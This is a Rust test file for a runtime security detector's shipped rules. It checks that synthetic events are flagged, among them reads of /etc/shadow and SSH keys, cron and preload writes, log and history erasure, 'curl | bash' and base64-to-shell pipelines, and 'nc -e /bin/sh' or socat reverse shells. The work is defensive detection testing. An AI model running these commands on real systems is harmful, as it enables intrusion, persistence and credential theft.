//! The rules in rules/: what they see of real records, and what they leave alone. Their own tests give them fields alone.

mod suite;

use std::path::{Path, PathBuf};

use super::*;
use crate::detect::Detector;
use crate::event::{Event, EventType, Scratch};
use crate::fields::{SensorCatalog, event_type_field};
use crate::testing::{Builder, CAT, SHELL, state_with_cat};

const WRITE: u32 = 1;
const CREATE: u32 = 0o100;
const TRUNCATE: u32 = 0o1_000;

/// Errors of connect.
const ENETUNREACH: i64 = -101;

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

fn shipped() -> RuleSet {
    load(&[folder()], &SensorCatalog).unwrap_or_else(|problems| panic!("{}", problems[0]))
}

#[track_caller]
fn check(records: &[(Builder, &str)]) {
    let detector = Detector::new(shipped()).unwrap();
    for (index, (record, expected)) in records.iter().enumerate() {
        let (bytes, mut state, scratch) = (record.bytes(), state_with_cat(), Scratch::default());
        record.apply(&mut state);
        let event = Event::new(1, 0, Builder::parse(&bytes), &state, &scratch).unwrap();
        let found = detector.matches(&event, &mut tercel_filter::Scratch::new()).next().map_or("", |rule| &*rule.name);
        assert_eq!(found, *expected, "record {index} of the table");
    }
}

/// An openat by `cat`.
fn open(path: &str, flags: u32) -> Builder {
    Builder::opens(EventType::OPENAT, flags, 0o644, 3, path, if path.starts_with('/') { path } else { "" })
}

/// A program started by `sh`.
fn exec(program: &str, arguments: &[&str]) -> Builder {
    let name = program.rsplit('/').next().unwrap_or(program);
    let name = name.get(..15).unwrap_or(name);
    Builder::exec(CAT, SHELL, name, program, &[&[program], arguments].concat())
}

/// `IPPROTO_*`.
const TCP: u16 = 6;
const UDP: u16 = 17;

fn connect(address: [u8; 4], remote_port: u16) -> Builder {
    connect_with(TCP, address, remote_port)
}

fn connect_with(protocol: u16, address: [u8; 4], remote_port: u16) -> Builder {
    let [high, low] = remote_port.to_be_bytes();
    let sockaddr = [&[2, 0, high, low][..], &address, &[0; 8]].concat();
    Builder::connect(&Builder::socket(protocol, address, remote_port), ENETUNREACH, &sockaddr).comm("app")
}

#[test]
fn the_shipped_rules_load_without_a_warning() {
    let set = shipped();
    assert!(set.warnings.is_empty(), "{}", set.warnings[0]);
    Detector::new(set).unwrap_or_else(|problems| panic!("{}", problems[0]));
}

#[test]
fn every_shipped_rule_is_on_bound_to_few_event_types_and_says_who_did_it() {
    for rule in shipped().rules {
        let types = rule.filter.possible_enum_values(event_type_field()).members(EventType::all().count()).count();
        assert!((1..=8).contains(&types), "{}: {types} event types", rule.name);
        assert!(rule.enabled, "{}", rule.name);
        for field in ["%user.name", "%proc.name", "%proc.pname", "%proc.cmdline", "%container.id"] {
            assert!(rule.output.contains(field), "{}: no {field} in the output", rule.name);
        }
    }
}

#[test]
fn reading_credentials_is_seen_whatever_name_was_used() {
    check(&[
        (open("/etc/shadow", 0), "Credential file read"),
        (open("/etc/shadow", WRITE), "Account file written"),
        (Builder::open("/etc/shadow", -13), ""),
        (Builder::open("link", 3), ""),
        (open("/etc/passwd", 0), ""),
        (open("/root/.ssh/id_ed25519", 0), "SSH private key read"),
        (open("/root/.ssh/id_ed25519.pub", 0), ""),
        (open("/etc/ssh/ssh_host_rsa_key", 0), "SSH private key read"),
        (open("/home/eve/.aws/credentials", 0), "Cloud credentials read with a file tool"),
    ]);
}

#[test]
fn those_whose_work_it_is_may_read_credentials() {
    let detector = Detector::new(shipped()).unwrap();
    for program in ["/usr/sbin/sshd", "/usr/bin/sudo", "/usr/bin/login", "/usr/sbin/cron", "/usr/lib/systemd/systemd"] {
        let (record, mut state, scratch) = (open("/etc/shadow", 0), state_with_cat(), Scratch::default());
        exec(program, &[]).apply(&mut state);
        let bytes = record.bytes();
        let event = Event::new(1, 0, Builder::parse(&bytes), &state, &scratch).unwrap();
        assert!(detector.matches(&event, &mut tercel_filter::Scratch::new()).next().is_none(), "{program}");
    }
}

#[test]
fn one_write_is_one_rule() {
    check(&[
        (open("/etc/ld.so.preload", WRITE | CREATE), "Preload file written"),
        (open("/etc/cron.d/job", WRITE | CREATE), "Scheduled job written"),
        (open("/etc/crontab", WRITE), "Scheduled job written"),
        (open("/etc/systemd/system/x.service", WRITE | CREATE), "Service definition written"),
        (open("/etc/motd", WRITE), "File below etc written"),
        (open("/root/.ssh/authorized_keys", WRITE), "Authorized keys written"),
        (open("/usr/bin/ls", WRITE), "System program written"),
        (open("/usr/local/bin/tool", WRITE | CREATE), ""),
        (open("/etc/motd", 0), ""),
        (open("/var/lib/x", WRITE), ""),
    ]);
}

#[test]
fn removing_traces_is_seen() {
    check(&[
        (open("/root/.bash_history", WRITE | TRUNCATE), "Shell history erased"),
        (open("/root/.bash_history", WRITE | 0o2_000), ""),
        (exec("/usr/bin/shred", &["-u", "/root/.zsh_history"]), "Shell history erased"),
        (open("/var/log/auth.log", WRITE | TRUNCATE), "System log erased"),
        (open("/var/log/mine.log", WRITE | TRUNCATE), ""),
        (exec("/usr/bin/rm", &["-rf", "/var/log/audit"]), "System log erased"),
        (exec("/usr/bin/rm", &["-rf", "/home/eve/x"]), ""),
    ]);
}

#[test]
fn programs_are_judged_by_where_they_lie_and_what_they_are_told() {
    check(&[
        (exec("/dev/shm/x", &[]), "Program run from shared memory"),
        (exec("/tmp/x", &[]), "Program run from a temporary directory"),
        (exec("/usr/bin/find", &["/", "-perm", "-4000"]), "Search for setuid programs"),
        (exec("/usr/bin/find", &["/", "-name", "id_rsa*"]), "Search for private keys"),
        (exec("/usr/bin/find", &["/", "-name", "*.txt"]), ""),
        (exec("/usr/bin/grep", &["-r", "BEGIN RSA PRIVATE KEY", "/"]), "Search for private keys"),
        (exec("/usr/bin/bash", &["-c", "echo aWQ= | base64 -d | sh"]), "Decoded text piped into an interpreter"),
        (exec("/usr/bin/bash", &["-c", "base64 -d key > out"]), ""),
        (exec("/usr/bin/sh", &["-c", "curl -s http://example.net/i | bash"]), "Download piped into an interpreter"),
        (exec("/usr/bin/sh", &["-c", "curl -s http://example.net/i | sha256sum"]), ""),
        (exec("/usr/bin/nc", &["-e", "/bin/sh", "192.0.2.1", "9"]), "Network tool runs a program"),
        (exec("/usr/bin/nc", &["192.0.2.1", "9"]), ""),
        (exec("/usr/bin/socat", &["TCP:192.0.2.1:9", "EXEC:/bin/sh"]), "Network tool runs a program"),
    ]);
}

#[test]
fn connections_are_judged_by_who_connects_and_where() {
    check(&[
        (connect([169, 254, 169, 254], 80), "Cloud metadata service contacted"),
        (connect([169, 254, 169, 254], 53), ""),
        (connect([192, 0, 2, 1], 80), ""),
        (connect([192, 0, 2, 1], 80).comm("cat"), "Offline command connects to the network"),
        (connect([192, 0, 2, 1], 80).process(SHELL, 0).comm("sh"), "Shell connects to the network"),
        (connect([127, 0, 0, 1], 80).process(SHELL, 0).comm("sh"), ""),
        (connect_with(UDP, [192, 0, 2, 1], 53).process(SHELL, 0).comm("sh"), ""),
        (connect([192, 0, 2, 1], 53).process(SHELL, 0).comm("sh"), "Shell connects to the network"),
    ]);
}
